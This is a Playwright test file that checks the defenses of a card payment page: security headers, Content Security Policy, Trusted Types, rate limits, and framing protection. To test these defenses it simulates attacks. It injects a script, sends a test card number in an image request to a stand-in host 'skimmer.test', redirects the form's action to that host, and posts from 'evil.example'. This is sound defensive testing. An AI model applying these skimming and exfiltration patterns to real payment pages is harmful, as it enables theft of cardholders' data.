import { randomUUID } from 'node:crypto';

import {
  CARDS,
  expect,
  expectPaid,
  fillCard,
  payButton,
  POSTS_PER_MINUTE,
  STAYS,
  test,
} from './fixtures.ts';

const CARD_FORM = {
  card_number: '4111 1111 1111 1112',
  expiry: '11 / 39',
  security_code: '9876',
  cardholder_name: 'Quirin Zapfhahn',
};

/** Matches the form's values above, but not the same digits inside an order's id. */
const TYPED = /4111\s?1111|Zapfhahn|(?<![\da-f-])9876(?![\da-f-])/;

/** Requests every kind of answer that a browser shows as a page. */
test('every page carries every header, and no card digits after a failed submit', async ({
  request,
  app,
  createOrder,
}) => {
  const order = await createOrder();
  const paid = await createOrder({ return_urls: {} });
  await request.post(paid.pay_url, {
    form: { ...CARD_FORM, card_number: CARDS.approved, security_code: '123' },
  });
  const answers = [
    await request.get(order.pay_url),
    await request.get(`${order.pay_url}?lang=ar`),
    await request.get(`${paid.pay_url}/status`),
    await request.get(`${app.url}/pay/${randomUUID()}`),
    await request.get(`${app.url}/nowhere`),
    await request.get(`${app.url}/shop`),
    await request.get(`${order.pay_url}/state`),
    await request.post(order.pay_url, { form: CARD_FORM }),
    await request.post(order.pay_url, {
      form: CARD_FORM,
      headers: { origin: 'https://evil.example' },
    }),
    await request.post(order.pay_url, { form: {}, maxRedirects: 0 }),
    await request.post(`${order.pay_url}/status`, { form: {}, maxRedirects: 0 }),
    await request.fetch(order.pay_url, { method: 'PUT' }),
  ];
  for (const answer of answers) {
    const where = `${answer.url()} ${answer.status()}`;
    const headers = answer.headers();
    expect.soft(headers, where).toMatchObject({
      'cache-control': 'no-store',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'x-content-type-options': 'nosniff',
      'x-robots-tag': 'noindex, nofollow',
    });
    const policy = headers['content-security-policy'] ?? '';
    for (const directive of [
      "default-src 'none'",
      "frame-ancestors 'none'",
      "form-action 'self'",
      "base-uri 'none'",
      "require-trusted-types-for 'script'",
    ]) {
      expect.soft(policy, where).toContain(directive);
    }
    expect
      .soft(policy, where)
      .not.toMatch(/unsafe|nonce|https?:|\*|(?:script|style)-src[^;]*'self'/);
    expect.soft(headers['permissions-policy'], where).toContain('camera=()');
    const body = await answer.text();
    expect.soft(body, where).not.toMatch(TYPED);
    expect.soft(body, where).not.toMatch(/\sstyle="|\son\w+="|javascript:/);
  }
});

test('a script that was altered on the way does not run, and the plain form pays', async ({
  app,
  page,
  complaints,
  createOrder,
}) => {
  const order = await createOrder(STAYS);
  await page.route('**', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    await route.fulfill({ response, body: html.replace('noValidate=!0', 'noValidate=!1') });
  });
  await page.goto(order.pay_url);
  await expect(page.locator('form#card-form')).toBeVisible();
  await expect.poll(() => complaints.join()).toContain('script-src');
  await fillCard(page, { number: CARDS.approved });
  await expect(page.locator('#card-form')).not.toHaveAttribute('novalidate');
  // Nothing groups the digits: the script did not run.
  await expect(page.locator('#card-number')).toHaveValue(CARDS.approved);
  await payButton(page).click();
  await expectPaid(page);
  expect((await app.client.getPayin(order.id)).ok).toBe(true);
  complaints.length = 0;
});

test('a script injected into the page does not run, and is reported', async ({
  page,
  app,
  openForm,
  complaints,
}) => {
  await openForm();
  const outcome = await page.evaluate(() => {
    const script = document.createElement('script');
    try {
      script.textContent = 'window.skimmed = true';
      document.head.append(script);
    } catch (error) {
      return String(error);
    }
    return 'skimmed' in window ? 'ran' : 'did not run';
  });
  expect(outcome).toContain('TrustedScript');
  await page.evaluate(() => {
    const image = new Image();
    image.src = 'http://skimmer.test/?card=4242424242424242';
    document.body.append(image);
  });
  await expect.poll(() => app.logs()).toContain('content security policy');
  expect(app.logs()).not.toMatch(/skimmer\.test\/\?card|4242424242424242/);
  complaints.length = 0;
});

test('the form cannot be redirected to another site', async ({ page, openForm, complaints }) => {
  const order = await openForm();
  await page.evaluate(() => {
    const form = document.querySelector('form');
    form?.setAttribute('action', 'http://skimmer.test/');
    form?.submit();
  });
  await expect.poll(() => complaints.join()).toContain('form-action');
  expect(page.url()).toBe(order.pay_url);
  complaints.length = 0;
});

test('limits on posts, and on returns with parameters, answer 429 with a page that says to wait', async ({
  playwright,
  pageBehindProxy: { proxy },
}) => {
  const request = await playwright.request.newContext({
    extraHTTPHeaders: { 'x-test-peer': '203.0.113.20' },
  });
  const address = `${proxy.baseUrl}/pay/${randomUUID()}`;
  const statuses = [];
  for (let n = 0; n < POSTS_PER_MINUTE + 2; n += 1) {
    statuses.push((await request.post(address, { form: CARD_FORM })).status());
  }
  expect(statuses).toEqual([503, 503, 503, 429, 429]);
  const refused = await request.post(address, { form: CARD_FORM });
  expect(Number(refused.headers()['retry-after'])).toBeGreaterThan(0);
  expect(await refused.text()).toContain('Too many attempts');
  expect((await request.get(address)).status()).toBe(503);
  const back = `${proxy.baseUrl}/pay/${randomUUID()}/status?cres=x`;
  const returns = [];
  for (let n = 0; n < POSTS_PER_MINUTE + 1; n += 1) {
    returns.push((await request.get(back, { maxRedirects: 0 })).status());
  }
  expect(returns).toEqual([303, 303, 303, 429]);
  await request.dispose();
});

test("payment pages are not shown in another origin's frame", async ({
  page,
  createOrder,
  complaints,
}) => {
  const order = await createOrder();
  await page.route('http://framing.test/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${order.pay_url}"></iframe>` }),
  );
  await page.goto('http://framing.test/');
  await expect(page.frameLocator('iframe').getByLabel('Card number')).toHaveCount(0);
  complaints.length = 0;
});
